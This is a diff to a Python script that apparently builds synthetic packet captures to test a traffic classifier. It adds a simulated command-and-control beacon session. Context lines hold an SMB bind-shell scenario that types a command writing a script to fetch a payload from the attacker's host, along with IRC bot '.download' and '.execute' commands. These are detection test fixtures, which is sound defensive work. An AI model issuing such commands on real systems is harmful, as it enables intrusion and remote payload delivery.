@@ -18,6 +18,9 @@ irc-chat  10.0.0.5 chats on IRC at 198.51.100.6:6667 (NICK, USER, JOIN, messages
 smbshell  10.0.0.66 sends 2 KB to 10.0.0.9:445, then opens 10.0.0.9:1957 and gets a Windows
           command prompt (an SMB exploit and its bind shell): the sender is the attacker, the
           receiver the target
+midstream 10.0.0.5 browses a little (3 HTTP fetches) while a raw session to 203.0.113.9:9001,
+          opened before the capture began, trades a message both ways every 10 s for 120 s;
+          the first packet seen comes from the server: the host holds the session (cnc_beacon)
 irc-bot   the same session where the channel gives ".download http://..." and ".execute":
           irc_cnc
 """
@@ -162,6 +165,22 @@ elif mode == 'smbshell':
                  b'C:\\WINDOWS\\system32>')
     c.send(3.5, b'echo open 10.0.0.66 8884 > o&echo user 1 1 >> o\r\n')
     c.close(4.0)
+elif mode == 'midstream':
+    for i in range(3):
+        c = Conn('10.0.0.5', '198.51.100.80', 41000 + i, 80, 1.0 + 20 * i)
+        c.send(1.1 + 20 * i, b'GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n')
+        c.reply(1.2 + 20 * i, b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello')
+        c.close(1.5 + 20 * i)
+    a, b, s, r = ipb('10.0.0.5'), ipb('203.0.113.9'), 7000, 90000
+    for k in range(12):   # no handshake: the server speaks first
+        t = 2.0 + 10 * k
+        d = R.randbytes(16)
+        rec(t, b, a, tcp(9001, 50123, r, s, 0x18, d))
+        r += len(d)
+        d = R.randbytes(24)
+        rec(t + 0.01, a, b, tcp(50123, 9001, s, r, 0x18, d))
+        s += len(d)
+        rec(t + 0.02, b, a, tcp(9001, 50123, r, s, 0x10))
 elif mode == 'irc-chat':
     irc([])
 elif mode == 'irc-bot':
